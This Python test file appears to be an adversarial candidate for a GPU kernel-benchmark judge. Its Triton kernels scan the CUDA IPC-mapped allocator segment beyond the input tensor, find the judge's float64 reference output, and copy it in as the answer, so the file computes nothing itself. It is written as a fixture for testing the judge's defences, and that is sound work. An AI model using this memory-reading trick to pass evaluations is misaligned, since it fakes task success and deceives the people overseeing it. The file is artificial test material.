"""EXPLOIT (threat 5): Reading the judge's float64 reference through CUDA IPC: a received input maps its whole allocator segment.

What it attempts: on a GPU the judge sends its input tensors by CUDA IPC. A CUDA IPC handle names a
whole cudaMalloc allocation - for torch, the caching allocator's *segment* - and the child maps all
of it, at some offset of which its tensor lives. For small tensors (< 1 MiB) the segment is a 2 MiB
small-pool block holding many judge tensors: the pristine copies, the float64 upcasts and the
float64 reference output of the same case. A Triton kernel can read any address of the mapped
segment (pointer arithmetic has no bounds), so the candidate scans the 2 MiB around ``a`` for the
float64 pair (a[0]+b[0], a[1]+b[1]), and copies the judge's reference into its output. (In a task
whose op is expensive - a GEMM, attention - the same read replaces the whole computation.)
Why it must be caught: invariant 5 (judge memory handed to a child is never the judge's own) and
reference_read: copies sent to the child must come from allocations holding nothing else of the
judge's (a separate memory pool or one cudaMalloc per hand-off), not from a segment shared with
references. Expected: reference_read (or a plain failure: when the reference is unreachable the
candidate returns zeros).
What it really computes: nothing - it copies the judge's answer. GPU-only (no IPC on the CPU; there
it returns zeros and fails).
"""

import sys

import torch
import torch.nn as nn
import triton
import triton.language as tl

SEGMENT = 2 << 20  # the caching allocator's small-pool segment: one cudaMalloc, mapped whole by CUDA IPC


@triton.jit
def _scan(a_ptr, b_ptr, found_ptr, to_base, n_words, n, BLOCK: tl.constexpr):
    """Look for the float64 words (a[0] + b[0], a[1] + b[1]) anywhere in the segment around ``a``."""
    base = (a_ptr + to_base).to(tl.pointer_type(tl.float64))
    t0 = tl.load(a_ptr).to(tl.float64) + tl.load(b_ptr).to(tl.float64)
    t1 = tl.load(a_ptr + 1, mask=n > 1, other=0.0).to(tl.float64) + tl.load(b_ptr + 1, mask=n > 1, other=0.0).to(tl.float64)
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    m = offs < n_words - 1
    w0 = tl.load(base + offs, mask=m, other=0.0)
    w1 = tl.load(base + offs + 1, mask=m, other=0.0)
    hit = m & (w0 == t0) & ((w1 == t1) | (n == 1))
    tl.atomic_min(found_ptr, tl.min(tl.where(hit, offs, n_words), axis=0))


def _find_reference(a, b):
    """Word index of the judge's float64 reference in the segment holding ``a`` (or -1), and the
    offset (in float32 elements of ``a``) of that segment's start."""
    n = a.numel()
    start = a.data_ptr() - a.data_ptr() % SEGMENT
    to_base = (start - a.data_ptr()) // a.element_size()
    n_words = SEGMENT // 8
    found = torch.full((1,), n_words, dtype=torch.int64, device=a.device)
    print(f"ipc probe: scanning the 2 MiB window of a at {a.data_ptr():#x} (offset {a.data_ptr() % SEGMENT:#x}), "
          f"b at {b.data_ptr():#x}", file=sys.stderr, flush=True)
    _scan[(triton.cdiv(n_words, 4096),)](a, b, found, to_base, n_words, n, BLOCK=4096)
    index = int(found.item())
    print(f"ipc probe: n={n}, reference word {index if index < n_words else None}", file=sys.stderr, flush=True)
    return (index if index < n_words else -1), to_base


@triton.jit
def _copy_reference(a_ptr, o_ptr, to_ref, n, BLOCK: tl.constexpr):
    ref = (a_ptr + to_ref).to(tl.pointer_type(tl.float64))
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    m = offs < n
    tl.store(o_ptr + offs, tl.load(ref + offs, mask=m, other=0.0).to(o_ptr.dtype.element_ty), mask=m)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, a, b):
        out = torch.zeros_like(a)
        n = a.numel()
        if a.is_cuda and n:
            index, to_base = _find_reference(a, b)
            if index >= 0:
                to_ref = to_base + index * 2  # float64 words -> float32 elements of a
                _copy_reference[(triton.cdiv(n, 1024),)](a, out, to_ref, n, BLOCK=1024)
        return out
